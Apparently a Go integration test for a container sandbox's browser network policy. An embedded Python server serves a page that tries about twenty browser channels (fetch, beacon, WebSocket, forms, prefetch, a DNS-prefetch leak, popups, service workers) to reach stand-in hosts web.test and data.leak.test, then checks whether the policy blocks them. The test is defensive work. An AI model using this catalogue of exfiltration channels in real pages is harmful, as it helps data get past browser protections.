//go:build linux

package story

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// pageServer is an app with a page that tries every way out of a browser, and
// the ways to its own app, and posts what became of them.
const pageServer = `
import asyncio, base64, hashlib, sys
OUT = "http://web.test"
PAGE = """<!doctype html><title>page</title><body><iframe name=sink></iframe><script>
const wait = ms => new Promise(r => setTimeout(r, ms));
const within = p => Promise.race([p.catch(e => "refused"), wait(8000).then(() => "late")]);
const event = (t, good, bad) => new Promise(r => { t.addEventListener(good, () => r("ok")); t.addEventListener(bad, () => r("refused")); });
const hint = (rel, href) => { const l = document.createElement("link"); l.rel = rel; l.href = href; document.head.append(l); return wait(700).then(() => "done") };
const ways = {
  own_fetch: () => fetch("/own").then(r => r.text()),
  own_socket: () => new Promise((r, no) => { const s = new WebSocket("ws://" + location.host + "/socket"); s.onmessage = m => r(m.data); s.onerror = no; }),
  own_events: () => new Promise((r, no) => { const s = new EventSource("/events"); s.onmessage = m => { s.close(); r(m.data) }; s.onerror = no; }),
  own_worker: () => new Promise((r, no) => { const w = new Worker("/worker.js"); w.onmessage = m => r(m.data); w.onerror = no; }),
  image: () => { const i = new Image(); const p = event(i, "load", "error"); i.src = "OUT/image"; return p },
  fetch: () => fetch("OUT/fetch", {mode: "no-cors"}).then(() => "ok"),
  beacon: () => Promise.resolve(String(navigator.sendBeacon("OUT/beacon", "x"))),
  socket: () => { const s = new WebSocket("ws://web.test/socket"); return event(s, "open", "error") },
  frame: () => { const f = document.createElement("iframe"); f.src = "OUT/frame"; document.body.append(f); return wait(700).then(() => "done") },
  form: () => { const f = document.createElement("form"); f.action = "OUT/form"; f.method = "post"; f.target = "sink"; document.body.append(f); f.submit(); return wait(700).then(() => "done") },
  script: () => { const s = document.createElement("script"); const p = event(s, "load", "error"); s.src = "OUT/script"; document.body.append(s); return p },
  style: () => { const s = document.createElement("link"); s.rel = "stylesheet"; const p = event(s, "load", "error"); s.href = "OUT/style"; document.head.append(s); return p },
  worker_fetch: () => new Promise((r, no) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('OUT/worker', {mode: 'no-cors'}).then(() => postMessage('ok'), () => postMessage('refused'))"]))); w.onmessage = m => r(m.data); w.onerror = no; }),
  preconnect: () => hint("preconnect", "OUT"),
  prefetch: () => hint("prefetch", "OUT/prefetch"),
  lookup: () => hint("dns-prefetch", "http://data.leak.test"),
  popup: () => { window.open("OUT/popup"); return wait(700).then(() => "done") },
  redirect: () => { window.open("/away"); return wait(700).then(() => "done") },
  service_worker: () => navigator.serviceWorker.register("/worker.js").then(() => "ok"),
};
(async () => {
  const got = {};
  for (const [name, way] of Object.entries(ways)) got[name] = String(await within(Promise.resolve().then(way)));
  await fetch("/result", {method: "POST", body: JSON.stringify(got)});
})();
</script>""".replace("OUT", OUT)

async def serve(reader, writer):
    while True:
        head = await reader.readuntil(b"\r\n\r\n")
        lines = head.decode("latin1").split("\r\n")
        method, path, _ = lines[0].split(" ", 2)
        fields = {k.lower(): v.strip() for k, _, v in (l.partition(":") for l in lines[1:] if l)}
        body = await reader.readexactly(int(fields.get("content-length", 0)))
        kind, text, status = "text/html", b"own", "200 OK"
        if path == "/": text = PAGE.encode()
        elif path == "/worker.js": kind, text = "text/javascript", b"self.postMessage && postMessage('own')"
        elif path == "/result": print("RESULT " + body.decode(), flush=True)
        elif path == "/away": status = "302 Found\r\nLocation: " + OUT + "/redirect"
        elif path == "/socket":
            key = hashlib.sha1((fields["sec-websocket-key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").encode()).digest()
            writer.write(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: " + base64.b64encode(key) + b"\r\n\r\n\x81\x03own")
            await writer.drain(); await reader.read(); return
        elif path == "/events":
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nConnection: close\r\n\r\ndata: own\n\n")
            await writer.drain(); await reader.read(); return
        writer.write(("HTTP/1.1 %s\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n" % (status, kind, len(text))).encode() + text)
        await writer.drain()

async def client(reader, writer):
    try: await serve(reader, writer)
    except (asyncio.IncompleteReadError, ConnectionError): pass
    finally: writer.close()

async def main():
    async with await asyncio.start_server(client, "0.0.0.0", 8000) as s: await s.serve_forever()
asyncio.run(main())
`

// visits opens the app's page in a browser and returns what became of each way.
func (w *world) visits(app, url string) map[string]string {
	w.t.Helper()
	results := func() []string {
		var found []string
		for line := range strings.Lines(w.result("logs", app).out) {
			if text, ok := strings.CutPrefix(line, "RESULT "); ok {
				found = append(found, text)
			}
		}
		return found
	}
	before := len(results())
	browser := w.in(w.machine, "chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
		"--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage", "--disable-popup-blocking",
		"--remote-debugging-port=0", "--user-data-dir="+w.t.TempDir(), url)
	must(w.t, browser.Start())
	defer func() {
		browser.Process.Signal(os.Interrupt)
		browser.Wait()
	}()
	var list []string
	w.untilWithin(4, "the page has tried everything", func() bool {
		list = results()
		return len(list) > before
	})
	got := map[string]string{}
	must(w.t, json.Unmarshal([]byte(list[len(list)-1]), &got))
	return got
}

// outside are the ways to the world, with the path that each asks for.
var outside = []string{"image", "fetch", "beacon", "socket", "frame", "form", "script", "style", "worker", "prefetch", "popup", "redirect"}

// Probe 67: the app's page in the user's browser.
func TestAPageOfAnAppInTheBrowser(t *testing.T) {
	w := newWorld(t)
	if _, err := exec.LookPath("chromium"); err != nil {
		t.Skip("needs chromium: run make deps")
	}
	run := func(name string, flags ...string) string {
		t.Helper()
		line := append([]string{"run", "-d", "--quiet", "--no-input", "--name", name, "-p", "0:8000"}, flags...)
		if r := w.result(append(line, built.image, "python3", "-c", pageServer)...); r.code != 0 {
			t.Fatal(r.err)
		}
		r := w.result("open", "--print", name)
		if !strings.HasPrefix(r.out, "http://"+name+".localhost:") {
			t.Fatalf("the page of %s is at %q: %s", name, r.out, r.err)
		}
		return strings.TrimSpace(r.out)
	}
	own := func(t *testing.T, got map[string]string) {
		t.Helper()
		for _, way := range []string{"own_fetch", "own_socket", "own_events", "own_worker"} {
			if got[way] != "own" {
				t.Errorf("%s: %q", way, got[way])
			}
		}
	}
	url := run("page")
	t.Run("without a grant", func(t *testing.T) {
		got := w.visits("page", url)
		own(t, got)
		if seen := w.paths(); len(seen) != 0 || w.reached() != 0 || w.lookedUp(leakName) {
			t.Errorf("%d connections reached the server, for %v; the page's name was looked up: %t", w.reached(), seen, w.lookedUp(leakName))
		}
		if got["service_worker"] == "ok" {
			t.Error("a service worker was registered: it could answer pages without the policy")
		}
	})
	t.Run("with a grant", func(t *testing.T) {
		if r := w.result("allow", "page", "net.connect", webTarget); r.code != 0 {
			t.Fatal(r.err)
		}
		w.until("the policy has the grant", func() bool {
			return strings.Contains(w.result("port", "page", "--json").out, "http://"+webName+":80")
		})
		own(t, w.visits("page", url))
		seen := strings.Join(w.paths(), " ")
		for _, way := range outside {
			if !strings.Contains(seen, "/"+way) {
				t.Errorf("%s did not arrive; these did: %s", way, seen)
			}
		}
	})
	t.Run("taken back", func(t *testing.T) {
		if r := w.result("revoke", "--all"); r.code != 0 {
			t.Fatal(r.err)
		}
		w.until("the policy has lost the grant", func() bool {
			return !strings.Contains(w.result("port", "page", "--json").out, webName)
		})
		before, reached := len(w.paths()), w.reached()
		w.visits("page", url)
		if seen := w.paths()[before:]; len(seen) != 0 || w.reached() != reached {
			t.Errorf("%d connections arrived, for %v", w.reached()-reached, seen)
		}
	})
	t.Run("without a policy", func(t *testing.T) { // the test can fail
		before := len(w.paths())
		w.visits("open", run("open", "--csp", "off"))
		if len(w.paths()) == before || !w.lookedUp(leakName) {
			t.Error("nothing arrived: this test shows nothing")
		}
	})
}

// leakName is a name that a page can only tell of by having it looked up.
const leakName = "data.leak.test"

// lookedUp says whether the resolver of the world was ever asked for a name.
func (w *world) lookedUp(name string) bool {
	raw, _ := os.ReadFile(filepath.Join(w.home, "dnsmasq.log"))
	return strings.Contains(string(raw), name)
}

// paths are what the web server of the world was asked for.
func (w *world) paths() []string {
	raw, _ := os.ReadFile(filepath.Join(w.home, "hits.paths"))
	return strings.Fields(string(raw))
}
